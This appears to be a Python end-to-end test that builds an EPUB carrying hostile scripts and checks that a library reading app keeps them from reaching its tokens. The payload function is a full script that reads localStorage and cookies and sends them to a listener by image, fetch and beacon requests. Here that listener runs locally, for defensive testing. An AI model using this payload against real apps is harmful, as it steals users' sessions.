"""Issue 12 item 7: a book's scripts cannot act as the reading app.

A publisher's EPUB carries an inline script, an external script, an event handler and a nested document, each
trying to read the reading app's tokens (its localStorage, its parent window, cookies) and send them away. The
patron borrows and opens it in the app, and then opens the resource's URL directly: no script of the book runs
with the app's origin, nothing is written to the app's storage, and nothing reaches the listening server.
"""

from __future__ import annotations

import html
import io
import json
import threading
import time
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from tests.e2e.conftest import WebApp, run_scenario
from tests.e2e.test_journeys import Lending, patron, staff

pytestmark = [pytest.mark.integration, pytest.mark.e2e]

TITLE = "Truyện có kịch bản ẩn"


def payload(listener: str, where: str) -> str:
    """A script that tries every way to the app's tokens, marks where it ran, and sends what it found away."""
    return f"""(function () {{
  var loot = "";
  var targets = [window, window.parent, window.top];
  for (var i = 0; i < targets.length; i++) {{
    try {{ loot += targets[i].localStorage.getItem("sachso.patron") || ""; }} catch (e) {{}}
    try {{ targets[i].localStorage.setItem("sachso.pwned", "{where}"); }} catch (e) {{}}
    try {{ targets[i].__stolen = "{where}:" + loot; }} catch (e) {{}}
    try {{ loot += targets[i].document.cookie; }} catch (e) {{}}
  }}
  var d = encodeURIComponent("{where}:" + loot);
  try {{ new Image().src = "{listener}/img?d=" + d; }} catch (e) {{}}
  try {{ fetch("{listener}/fetch?d=" + d); }} catch (e) {{}}
  try {{ window.parent.fetch("{listener}/parent?d=" + d); }} catch (e) {{}}
  try {{ navigator.sendBeacon("{listener}/beacon", d); }} catch (e) {{}}
}})();"""


def xhtml(title: str, body: str, head: str = "") -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" lang="vi" xml:lang="vi">
<head><title>{title}</title>{head}</head>
<body>{body}</body>
</html>"""


def hostile_epub(listener: str) -> bytes:
    inline = f"<script>//<![CDATA[\n{payload(listener, 'inline')}\n//]]></script>"
    handler = html.escape(payload(listener, "onerror").replace("\n", " "), quote=True)
    chapter = xhtml(
        "Chương một",
        "<h1>Chương một</h1><p>Một câu chuyện bình thường, với kịch bản giấu bên trong.</p>"
        f'<img src="missing.png" alt="" onerror="{handler}"/>'
        '<iframe src="inner.xhtml" title="Trang lồng"></iframe>',
        head='<script src="steal.js"></script>' + inline,
    )
    nested = f"<script>//<![CDATA[\n{payload(listener, 'iframe')}\n//]]></script>"
    inner = xhtml("Trang lồng", "<p>Trang lồng</p>", head=nested)
    nav = xhtml(
        "Mục lục",
        '<nav epub:type="toc"><ol><li><a href="chapter.xhtml">Chương một</a></li></ol></nav>',
    )
    opf = f"""<?xml version="1.0" encoding="UTF-8"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="uid" xml:lang="vi">
  <metadata xmlns:dc="http://purl.org/dc/elements/1.1/">
    <dc:identifier id="uid">urn:uuid:6f1c7a52-2f0e-4c1e-9d7a-hostile-book-01</dc:identifier>
    <dc:title>{TITLE}</dc:title>
    <dc:language>vi</dc:language>
    <meta property="dcterms:modified">2026-01-01T00:00:00Z</meta>
  </metadata>
  <manifest>
    <item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
    <item id="chapter" href="chapter.xhtml" media-type="application/xhtml+xml" properties="scripted"/>
    <item id="inner" href="inner.xhtml" media-type="application/xhtml+xml" properties="scripted"/>
    <item id="steal" href="steal.js" media-type="text/javascript"/>
  </manifest>
  <spine><itemref idref="chapter"/></spine>
</package>"""
    container = """<?xml version="1.0" encoding="UTF-8"?>
<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">
  <rootfiles><rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/></rootfiles>
</container>"""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/epub+zip")
        for name, text in {
            "META-INF/container.xml": container,
            "OEBPS/content.opf": opf,
            "OEBPS/nav.xhtml": nav,
            "OEBPS/chapter.xhtml": chapter,
            "OEBPS/inner.xhtml": inner,
            "OEBPS/steal.js": payload(listener, "external"),
        }.items():
            archive.writestr(name, text, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


class Listener:
    """Where a book's script would send what it stole: a server on this machine that records every request."""

    def __init__(self) -> None:
        heard: list[str] = []
        self.heard = heard

        class Record(BaseHTTPRequestHandler):
            def _record(self) -> None:
                heard.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = _record

            def log_message(self, *_: object) -> None:
                return

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Listener:
        self.thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as running:
        yield running


def publish_and_borrow(app: WebApp, book: bytes, reader: dict[str, str]) -> str:
    """The publisher ingests the book, the province licenses it, the patron borrows it: the loan's id."""
    lending = Lending(app)
    publisher_id, _, secret = ("nxb-tre", "NXB Trẻ", "nxb-tre-local-ingest-secret-0001")
    token = lending.http.post("/v1/auth/publisher-token", json={"publisher_id": publisher_id, "secret": secret})
    headers = {"Authorization": f"Bearer {token.json()['access_token']}"}
    reader_url = app.platform.endpoints()["reader"].http_url
    uploaded = httpx.post(
        f"{reader_url}/v1/publications",
        files={"file": ("hostile.epub", book, "application/octet-stream")},
        data={"metadata": json.dumps({"title": TITLE}, ensure_ascii=False)},
        headers=headers,
        timeout=60,
    )
    assert uploaded.status_code in (200, 201), uploaded.text
    publication_id = uploaded.json()["id"]
    deadline = time.monotonic() + 60
    title_id = None
    while title_id is None and time.monotonic() < deadline:
        items = lending.http.get("/v1/titles", params={"q": "kich ban an"}).json()["items"]
        title_id = next((item["id"] for item in items if item["publication_id"] == publication_id), None)
        time.sleep(0.3)
    assert title_id, "the book did not reach lending's catalogue"
    licence = lending.http.post(
        f"/v1/titles/{title_id}/licenses",
        json={"owner_library_id": "daklak", "model": "simultaneous-use", "concurrency": None},
        headers=lending.staff_token(staff(app, "admin")),
    )
    assert licence.status_code == 201, licence.text
    return lending.borrow(reader, title_id)


def test_a_books_scripts_cannot_read_or_send_the_apps_tokens(web_app: WebApp, listener: Listener) -> None:
    reader = patron(web_app, "krong-pac")
    loan = publish_and_borrow(web_app, hostile_epub(listener.url), reader)
    result = run_scenario("hostile", {"base": web_app.base, "loan": loan, **reader})
    assert result["shown"], result  # the book itself opened and its text is on the screen
    assert result["token_kept"], result  # the app still holds its session (the test can see it; the book cannot)
    assert result["pwned"] == [None, None], result  # nothing written to the app's storage, in the reader or directly
    assert result["stolen"] == [None, None], result  # no script reached the app's window
    assert result["frame_ran"] is None, result  # not even inside the book's own frame
    time.sleep(1)  # anything sent would have arrived by now (the listener is on this machine)
    assert listener.heard == [], listener.heard
